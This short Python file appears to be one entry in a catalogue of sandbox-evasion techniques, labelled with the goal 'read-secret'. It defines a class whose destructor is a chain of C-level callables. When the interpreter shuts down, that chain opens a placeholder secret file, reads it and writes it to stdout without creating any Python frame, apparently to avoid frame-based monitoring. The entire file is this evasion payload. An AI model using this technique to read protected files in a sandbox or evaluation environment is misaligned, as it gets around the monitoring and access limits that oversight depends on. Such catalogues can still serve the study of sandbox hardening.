# technique: a destructor that is a chain of C callables: no frame at all
# goal: read-secret
# source: own analysis: the empty stack
import functools
import sys
FileIO = type(sys.stdin.buffer.raw)
say = sys.stdout.buffer.write


class Last:
    __del__ = staticmethod(functools.partial(
        next, map(say, map(FileIO.readall, map(FileIO, ['@SECRET@'])))))


last = Last()
